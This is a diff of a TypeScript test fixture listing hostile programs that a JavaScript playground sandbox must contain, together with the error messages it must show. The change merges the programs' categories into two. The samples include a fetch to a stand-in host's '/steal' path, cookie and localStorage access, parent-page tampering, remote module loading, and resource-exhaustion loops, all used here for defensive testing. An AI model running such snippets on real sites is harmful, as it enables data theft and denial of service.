@@ -1,13 +1,7 @@
 // Programs that a playground must survive, with the words that a reader must see.
 
-/** What a program goes for. */
-export const HOSTILE_KINDS = [
-  'no end',
-  'too much',
-  'errors',
-  'the page in view',
-  'the network in view',
-] as const
+/** What a program does: compute until it is stopped, or end by itself. */
+export const HOSTILE_KINDS = ['without end', 'with an end'] as const
 
 export interface HostileProgram {
   readonly name: string
@@ -30,20 +24,20 @@ const NEVER = `createClient({ baseUrl: 'https://api.example.com/v1', timeout: fa
 export const HOSTILE_PROGRAMS: readonly HostileProgram[] = [
   {
     name: 'an endless loop',
-    kind: 'no end',
+    kind: 'without end',
     code: `console.log('before'); while (true) {}`,
     says: BUSY,
     inBoth: true,
   },
   {
     name: 'an endless chain of promises',
-    kind: 'no end',
+    kind: 'without end',
     code: 'const again = () => Promise.resolve().then(again); again()',
     says: BUSY,
   },
   {
     name: 'a promise that never settles',
-    kind: 'no end',
+    kind: 'without end',
     code: {
       esm: `import { createClient } from 'troth'; await ${NEVER}; console.log('never')`,
       cjs: `const { createClient } = require('troth'); ${NEVER}.then(() => console.log('never'))`,
@@ -52,127 +46,127 @@ export const HOSTILE_PROGRAMS: readonly HostileProgram[] = [
   },
   {
     name: 'a million lines',
-    kind: 'too much',
+    kind: 'with an end',
     code: `for (let i = 0; i < 1_000_000; i++) console.log('line', i)`,
     says: /999.000.more lines not shown/,
   },
-  { name: 'endless lines', kind: 'no end', code: `while (true) console.log('line')`, says: BUSY },
+  { name: 'endless lines', kind: 'without end', code: `while (true) console.log('line')`, says: BUSY },
   {
     name: 'a string of 50 MB',
-    kind: 'too much',
+    kind: 'with an end',
     code: `console.log('x'.repeat(50_000_000))`,
     says: /… 49\d{6} more characters/,
   },
   {
     name: 'an endless row of messages',
-    kind: 'no end',
+    kind: 'without end',
     code: `while (true) postMessage('flood')`,
     says: /postMessage is not available in the playground/,
   },
   {
     name: 'a syntax error',
-    kind: 'errors',
+    kind: 'with an end',
     code: `const answer = \nconsole.log((1)`,
     says: /Not started: the code has an error/,
   },
   {
     name: 'a thrown string',
-    kind: 'errors',
+    kind: 'with an end',
     code: `throw 'no error at all'`,
     says: /Uncaught 'no error at all'/,
     inBoth: true,
   },
-  { name: 'a thrown null', kind: 'errors', code: 'throw null', says: /Uncaught null/ },
+  { name: 'a thrown null', kind: 'with an end', code: 'throw null', says: /Uncaught null/ },
   {
     name: 'a new location',
-    kind: 'the page in view',
+    kind: 'with an end',
     code: `location = '${ELSEWHERE}/'`,
     says: /location cannot be changed/,
     inBoth: true,
   },
   {
     name: 'the top window',
-    kind: 'the page in view',
+    kind: 'with an end',
     code: 'top.location.href = "about:blank"',
     says: NO_PAGE,
   },
   {
     name: 'the parent window',
-    kind: 'the page in view',
+    kind: 'with an end',
     code: 'parent.document.body.remove()',
     says: NO_PAGE,
   },
-  { name: 'cookies', kind: 'the page in view', code: 'console.log(document.cookie)', says: NO_PAGE },
+  { name: 'cookies', kind: 'with an end', code: 'console.log(document.cookie)', says: NO_PAGE },
   {
     name: 'storage',
-    kind: 'the page in view',
+    kind: 'with an end',
     code: `localStorage.setItem('theme', 'stolen')`,
     says: NO_PAGE,
   },
   {
     name: 'a database',
-    kind: 'the page in view',
+    kind: 'with an end',
     code: `indexedDB.open('stolen')`,
     says: /has no storage: there is no `indexedDB`/,
   },
   {
     name: 'a nested frame',
-    kind: 'the page in view',
+    kind: 'with an end',
     code: `document.body.append(document.createElement('iframe'))`,
     says: NO_PAGE,
   },
   {
     name: 'a worker of its own',
-    kind: 'the network in view',
+    kind: 'with an end',
     code: `new Worker('data:text/javascript,1')`,
     says: /runs one thread: there is no `Worker`/,
   },
   {
     name: 'a request to a real host',
-    kind: 'the network in view',
+    kind: 'with an end',
     code: `fetch('${ELSEWHERE}/steal').then(() => console.log('sent'))`,
     says: /so https:\/\/elsewhere\.test cannot be reached/,
   },
   {
     name: 'a request in another way',
-    kind: 'the network in view',
+    kind: 'with an end',
     code: `const request = new XMLHttpRequest(); request.open('GET', '${ELSEWHERE}/'); request.send()`,
     says: /there is no `XMLHttpRequest`/,
   },
   {
     name: 'a socket',
-    kind: 'the network in view',
+    kind: 'with an end',
     code: `new WebSocket('wss://elsewhere.test/')`,
     says: /there is no `WebSocket`/,
   },
   {
     name: 'a module of another host',
-    kind: 'the network in view',
+    kind: 'with an end',
     code: `import('${ELSEWHERE}/module.js').then(() => console.log('loaded'))`,
     says: /modules cannot be loaded from other hosts/,
     inBoth: true,
   },
   {
     name: 'endless recursion',
-    kind: 'errors',
+    kind: 'with an end',
     code: 'const deeper = () => deeper() + 1; deeper()',
     says: /RangeError: Maximum call stack size exceeded/,
   },
   {
     name: 'memory without end',
-    kind: 'too much',
+    kind: 'without end',
     code: 'const all = []; while (true) all.push(new Array(100_000).fill(all.length))',
     says: /blocked the thread for a second|ran out of memory/,
   },
   {
     name: 'the end of its own thread',
-    kind: 'errors',
+    kind: 'with an end',
     code: 'self.close(); close()',
     says: /close is not available in the playground/,
   },
   {
     name: 'changed built-in objects',
-    kind: 'errors',
+    kind: 'with an end',
     code: `for (const type of [Array, Object, Map, Promise, MessagePort, String]) {
   for (const name of Object.getOwnPropertyNames(type.prototype)) {
     if (name !== 'constructor') try { type.prototype[name] = () => { throw new Error('broken ' + name) } } catch {}
@@ -184,7 +178,7 @@ throw new Error('broken on purpose')`,
   },
   {
     name: 'lines that grow without end',
-    kind: 'too much',
+    kind: 'with an end',
     code: `for (let i = 0; i < 20_000; i++) console.group(); console.log('\\n'.repeat(5000) + 'x')`,
     says: /more characters/,
   },
